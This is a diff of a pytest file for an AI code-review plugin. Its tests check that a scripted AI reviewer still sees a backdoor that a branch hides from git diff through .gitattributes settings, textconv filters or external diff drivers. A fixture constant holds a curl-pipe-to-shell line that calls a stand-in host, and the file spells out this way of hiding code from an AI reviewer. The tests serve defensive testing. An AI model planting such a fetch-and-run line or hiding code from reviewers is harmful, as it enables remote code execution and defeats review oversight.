@@ -6,11 +6,12 @@ command the prompt gives the reviewer into "Binary files … differ", so a backd
 its bytes all along).  A ``diff=<driver>`` attribute that selects a textconv filter or
 an external diff command configured on the machine hid it the same way.
 
-Here the scripted reviewer runs, through a real Codex ``exec_command`` tool call, exactly
-the diff command(s) the prompt it received names (parsed out of that prompt), and the
-test looks for the backdoor line in the tool output Codex sent back to the model: in
-plain runs (the branch under ``CI=true``, and ``--advreview-diff=branch``) and in head
-runs (``--advreview-head``).
+Here the in-process scripted reviewer runs, in its workspace, exactly the diff command(s)
+the prompt it received names (parsed out of that prompt), and the test looks for the
+backdoor line in the tool output it sent back to the model: in plain runs (the branch
+under ``CI=true``, and ``--advreview-diff=branch``) and in head runs
+(``--advreview-head``).  That the real Codex tool shell runs a command in that
+workspace is the real-CLI tests' claim (test_head_e2e.py).
 """
 
 from __future__ import annotations
@@ -18,25 +19,29 @@ from __future__ import annotations
 import json
 import re
 import shlex
-from collections.abc import Iterator
-from typing import Any
+import sys
 
 import pytest
 
 from conftest import ReviewRepo, git
 from pytest_advreview.report.markdown import escape
-from pytest_advreview.testing import ScriptedServer, approved_review, shell_step
-
-pytestmark = pytest.mark.real_codex
+from pytest_advreview.testing import approved_review, run_step
 
 #: The line the branch hides; a reviewer that sees it would stop the change.
 BACKDOOR = '    os.system("curl -s https://evil.invalid/x | sh")  # BACKDOOR-LINE'
 APP = f"import os\n\n\ndef handler(request):\n{BACKDOOR}\n    return 'ok'\n"
-#: Placeholder step: the server replaces it with an exec_command call of the prompt's
-#: diff commands.
-RUN_PROMPT_DIFF = "RUN-THE-PROMPT'S-DIFF-COMMANDS"
 #: How the code prompt names its commands: "Run `A`, `B` and `C` to see …".
 _RUN = re.compile(r"^Run (.+?) to see ", re.MULTILINE)
+#: What the reviewer runs: the commands its prompt names (read the way
+#: :func:`prompt_diff_commands` reads them), chained, exactly as the prompt writes them.
+RUN_PROMPT_DIFF = f"""\
+import os, re, subprocess, sys
+prompt = open(os.environ["ADVREVIEW_SCRIPTED_PROMPT"], encoding="utf-8").read()
+found = re.search({_RUN.pattern!r}, prompt, re.MULTILINE)
+assert found is not None, prompt
+commands = re.findall(r"`([^`]+)`", found.group(1))
+sys.exit(subprocess.run(" && ".join(commands), shell=True).returncode)
+"""
 
 #: The attributes a branch adds, each with the machine configuration its driver needs
 #: (a textconv filter and an external diff command that drop the backdoor line, as a
@@ -60,22 +65,12 @@ def prompt_diff_commands(prompt: str) -> list[str]:
     return re.findall(r"`([^`]+)`", found.group(1))
 
 
-class PromptDiffServer(ScriptedServer):
-    """A scripted server whose placeholder step runs the prompt's own diff commands."""
-
-    def _choose(self, request: Any, raw: bytes) -> tuple[int | None, int, dict[str, Any]]:
-        rule, index, step = super()._choose(request, raw)
-        if step.get("message") == RUN_PROMPT_DIFF:
-            commands = prompt_diff_commands(request.last_user_text)
-            # One tool call per command, chained, exactly as the prompt writes them.
-            step = shell_step(" && ".join(commands), "run-prompt-diff")
-        return rule, index, step
-
-
-@pytest.fixture
-def advreview_server() -> Iterator[ScriptedServer]:
-    with PromptDiffServer() as server:
-        yield server
+def answer_with_the_prompts_diff(repo: ReviewRepo) -> None:
+    """The code review runs the diff commands of its prompt, then approves."""
+    script = repo.path.parent / "run_prompt_diff.py"
+    script.write_text(RUN_PROMPT_DIFF, encoding="utf-8")
+    command = shlex.join([sys.executable, str(script)])
+    repo.answer("src/app.py", run_step(command, "run-prompt-diff"), {"message": approved_review()})
 
 
 def hide_in_branch(repo: ReviewRepo, attributes: str) -> None:
@@ -89,7 +84,7 @@ def hide_in_branch(repo: ReviewRepo, attributes: str) -> None:
 
 
 def reviewer_saw(repo: ReviewRepo) -> str:
-    """The output of the reviewer's diff tool call, as Codex sent it to the model."""
+    """The output of the reviewer's diff tool call, as it went back to the model."""
     outputs = [
         str(item.get("output"))
         for request in repo.server.response_requests
@@ -107,42 +102,42 @@ def first_prompt(repo: ReviewRepo) -> str:
 @pytest.mark.parametrize("kind", list(ATTRIBUTES))
 @pytest.mark.parametrize("how", ["ci", "diff-branch"])
 def test_the_prompts_diff_command_shows_code_the_branch_hides_with_attributes(
-    review_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch, kind: str, how: str
+    scripted_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch, kind: str, how: str
 ) -> None:
-    hide_in_branch(review_repo, ATTRIBUTES[kind])
-    review_repo.answer("src/app.py", {"message": RUN_PROMPT_DIFF}, {"message": approved_review()})
+    hide_in_branch(scripted_repo, ATTRIBUTES[kind])
+    answer_with_the_prompts_diff(scripted_repo)
     if how == "ci":
         monkeypatch.setenv("CI", "true")
         extra = ["--advreview-base=main"]
     else:
         extra = ["--advreview-diff=branch", "--advreview-base=main"]
 
-    result = review_repo.run_subprocess(*extra)
+    result = scripted_repo.run(*extra)
 
     result.assert_outcomes(passed=1)
-    saw = reviewer_saw(review_repo)
+    saw = reviewer_saw(scripted_repo)
     assert BACKDOOR in saw, saw
     assert "Binary files" not in saw
     assert "nothing to see here" not in saw
 
 
 def test_head_mode_shows_the_code_a_pull_request_hides_with_attributes(
-    review_repo: ReviewRepo,
+    scripted_repo: ReviewRepo,
 ) -> None:
-    git(review_repo.path, "checkout", "-q", "-b", "pr")
-    review_repo.write(".gitattributes", "*.py -diff\n")
-    review_repo.write("src/app.py", APP)
-    review_repo.commit("pr")
-    git(review_repo.path, "checkout", "-q", "main")
-    review_repo.answer("src/app.py", {"message": RUN_PROMPT_DIFF}, {"message": approved_review()})
+    git(scripted_repo.path, "checkout", "-q", "-b", "pr")
+    scripted_repo.write(".gitattributes", "*.py -diff\n")
+    scripted_repo.write("src/app.py", APP)
+    scripted_repo.commit("pr")
+    git(scripted_repo.path, "checkout", "-q", "main")
+    answer_with_the_prompts_diff(scripted_repo)
 
-    result = review_repo.run_subprocess("--advreview-head=pr")
+    result = scripted_repo.run("--advreview-head=pr")
 
     result.assert_outcomes(passed=1)
-    saw = reviewer_saw(review_repo)
+    saw = reviewer_saw(scripted_repo)
     assert BACKDOOR in saw, saw
     assert "Binary files" not in saw
-    prompt = first_prompt(review_repo)
+    prompt = first_prompt(scripted_repo)
     assert "WARNING: this change adds, edits or deletes git attributes (.gitattributes)" in prompt
     result.stdout.fnmatch_lines(
         [
@@ -153,23 +148,23 @@ def test_head_mode_shows_the_code_a_pull_request_hides_with_attributes(
 
 
 def test_the_prompt_the_header_and_the_report_name_an_attributes_change(
-    review_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch
+    scripted_repo: ReviewRepo, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     # An attributes file deep in the tree counts as much as the top-level one.
-    git(review_repo.path, "checkout", "-q", "-b", "pr")
-    review_repo.write("src/.gitattributes", "*.py -diff\n")
-    review_repo.write("src/app.py", APP)
-    review_repo.commit("pr")
+    git(scripted_repo.path, "checkout", "-q", "-b", "pr")
+    scripted_repo.write("src/.gitattributes", "*.py -diff\n")
+    scripted_repo.write("src/app.py", APP)
+    scripted_repo.commit("pr")
     monkeypatch.setenv("CI", "true")
     monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
-    review_repo.answer("src/app.py", {"message": RUN_PROMPT_DIFF}, {"message": approved_review()})
+    answer_with_the_prompts_diff(scripted_repo)
 
-    result = review_repo.run_subprocess(
+    result = scripted_repo.run(
         "--advreview-base=main", "--advreview-json=out.json", "--advreview-report=out.md"
     )
 
     result.assert_outcomes(passed=1)
-    prompt = first_prompt(review_repo)
+    prompt = first_prompt(scripted_repo)
     assert (
         "WARNING: this change adds, edits or deletes git attributes (src/.gitattributes)." in prompt
     )
@@ -182,21 +177,21 @@ def test_the_prompt_the_header_and_the_report_name_an_attributes_change(
         "code from `git diff`"
     )
     result.stdout.fnmatch_lines([f"advreview: code change: branch main...HEAD: *; {warning}*"])
-    data = json.loads((review_repo.path / "out.json").read_text())
+    data = json.loads((scripted_repo.path / "out.json").read_text())
     assert data["change_set"]["attributes"] == ["src/.gitattributes"]
     # The report (the PR comment) says it too, as inert markdown.
-    assert escape(warning) in (review_repo.path / "out.md").read_text()
+    assert escape(warning) in (scripted_repo.path / "out.md").read_text()
 
 
-def test_a_change_without_attributes_has_no_warning(review_repo: ReviewRepo) -> None:
-    git(review_repo.path, "checkout", "-q", "-b", "pr")
-    review_repo.write("src/app.py", APP)
-    review_repo.commit("pr")
-    review_repo.answer("src/app.py", {"message": RUN_PROMPT_DIFF}, {"message": approved_review()})
+def test_a_change_without_attributes_has_no_warning(scripted_repo: ReviewRepo) -> None:
+    git(scripted_repo.path, "checkout", "-q", "-b", "pr")
+    scripted_repo.write("src/app.py", APP)
+    scripted_repo.commit("pr")
+    answer_with_the_prompts_diff(scripted_repo)
 
-    result = review_repo.run_subprocess("--advreview-diff=branch", "--advreview-base=main")
+    result = scripted_repo.run("--advreview-diff=branch", "--advreview-base=main")
 
     result.assert_outcomes(passed=1)
-    assert BACKDOOR in reviewer_saw(review_repo)
-    assert "WARNING" not in first_prompt(review_repo)
+    assert BACKDOOR in reviewer_saw(scripted_repo)
+    assert "WARNING" not in first_prompt(scripted_repo)
     assert "git attributes" not in result.stdout.str()
